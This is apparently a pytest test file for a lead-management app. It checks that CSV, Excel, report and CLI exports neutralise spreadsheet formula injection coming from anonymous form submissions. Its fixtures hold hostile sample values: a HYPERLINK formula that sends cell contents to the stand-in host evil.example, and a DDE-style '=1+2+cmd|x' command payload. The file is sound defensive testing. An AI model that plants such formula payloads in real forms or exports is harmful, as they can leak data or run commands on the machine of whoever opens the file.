"""Security finding 2: what an anonymous sender writes into a form must reach every file an admin opens in a
spreadsheet as text, never as a formula — the leads' CSV and Excel exports, the report's CSV, the CLI's."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.helpers.web import WEB_CONFIG, deliver, make_users, sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2, "Нажмите")'
CAMPAIGN = "=1+2+cmd|x"


@pytest.fixture
def config_path(write_config):
    return write_config(WEB_CONFIG)


@pytest.fixture
def poisoned(app, hub, client):
    """A lead whose name and campaign are formulas, posted anonymously to a webhook like any lead."""
    make_users(hub)
    deliver(client, hub, "ads", "+79120000009", "hello", name=HYPERLINK, utm_campaign=CAMPAIGN)
    sign_in(client, "admin@example.ru")
    return client


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def test_the_leads_csv_export_writes_formulas_as_text(poisoned):
    cells = _cells(poisoned.get("/leads/export").data.decode("utf-8-sig"))
    assert "'" + HYPERLINK in cells and "'" + CAMPAIGN in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'+79120000009" in cells                          # a phone keeps its "+", as text


def test_the_leads_excel_export_writes_formulas_as_string_cells(poisoned, tmp_path):
    path = tmp_path / "leads.xlsx"
    path.write_bytes(poisoned.get("/leads/export?format=xlsx").data)
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
    name = next(c for c in cells if c.value == HYPERLINK)
    campaign = next(c for c in cells if c.value == CAMPAIGN)
    assert name.data_type == "s" and campaign.data_type == "s"
    assert not [c for c in cells if c.data_type == "f"]


def test_the_report_csv_writes_a_formula_campaign_as_text(poisoned):
    cells = _cells(poisoned.get("/report.csv?group_by=utm_campaign").data.decode("utf-8"))
    assert "'" + CAMPAIGN in cells and CAMPAIGN not in cells


def test_the_cli_export_writes_formulas_as_text(poisoned, runner, tmp_path):
    runner("leads", "export", "--format", "csv", "-o", str(tmp_path / "leads.csv"))
    cells = _cells((tmp_path / "leads.csv").read_text("utf-8-sig"))
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
